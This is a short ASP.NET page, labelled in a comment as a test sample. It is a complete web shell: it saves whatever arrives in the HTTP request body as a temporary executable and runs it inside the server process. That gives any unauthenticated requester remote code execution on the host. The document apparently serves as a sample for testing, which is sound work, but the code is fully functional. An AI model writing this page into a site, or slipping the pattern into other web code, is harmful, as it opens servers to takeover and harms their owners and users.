<%@ Page Language="C#" %>
<%-- test sample: the request body written to a temp file that is then run as an assembly --%>
<%
    string exe = System.IO.Path.GetTempFileName() + ".exe";
    using (var fs = new System.IO.FileStream(exe, System.IO.FileMode.Create)) {
        Request.InputStream.CopyTo(fs);
    }
    AppDomain.CurrentDomain.ExecuteAssembly(exe);
%>
